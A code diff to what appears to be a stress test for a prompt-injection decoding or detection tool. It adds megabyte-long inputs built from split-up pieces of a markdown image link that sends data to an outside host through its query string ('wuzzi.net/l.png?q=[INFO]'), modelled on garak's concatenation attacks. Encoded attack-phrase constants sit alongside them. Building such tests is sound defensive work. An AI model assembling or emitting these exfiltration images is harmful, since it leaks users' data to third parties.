@@ -238,6 +238,8 @@ const MB = 1 << 20;
 const BASE2048_ATTACK = 'ԓѹভณգИଢࠌܤवؿപསனߤϺݙਪৡಊӼஊமڒٽݗđณחЩࡃࠌݡҿԈฤॿறॳਮܤषඐහՈ';
 const BASE85_ATTACK = 'NoQ_va%CW4Y-}KKa%FaDZ*_AZX>N0La&=>LX>V?GAYpD~AaZ4PWnpX}bZBKDb9r-gWo;mEa&K*LbN';
 const ECOJI_ATTACK = '🏵🕕🥋🤟👥📘🌡🌴🍉🚃🍡👇👶🙂🐭🚜👶😲🎪🌺💦🔊🏨👀💊🚬☕☕';
+const QUOTED_PIECES = '"![t","](htt","ps",":/","/","wu","zzi",".","net/l.png?q=[INFO]",")",';
+const QUOTED_LINE = '"![t","](ht","tps://x.y/?q=[DATA]",")"\n';
 const attacksMB: [string, string][] = [
   ['letters', 'a'.repeat(MB)],
   ['digits', '1'.repeat(MB)],
@@ -299,6 +301,10 @@ const attacksMB: [string, string][] = [
   ['Ecoji padding', '\u2615'.repeat(MB)],
   // The same phrase in Base85 (Python's base64.b85encode: garak's InjectAscii85 writes it too).
   ['Base85 runs', `${BASE85_ATTACK} `.repeat(Math.floor(MB / (BASE85_ATTACK.length + 1)))],
+  // Quoted pieces to join (garak's concatenation prompts; decode-concat.ts): one megabyte-long run of
+  // pieces of an exfiltration image, and the run cut every 4 separators by a line break.
+  ['quoted pieces', QUOTED_PIECES.repeat(Math.floor(MB / QUOTED_PIECES.length))],
+  ['quoted piece lines', QUOTED_LINE.repeat(Math.floor(MB / QUOTED_LINE.length))],
 ];
 const adversarial = [];
 for (const [name, text] of attacksMB) {
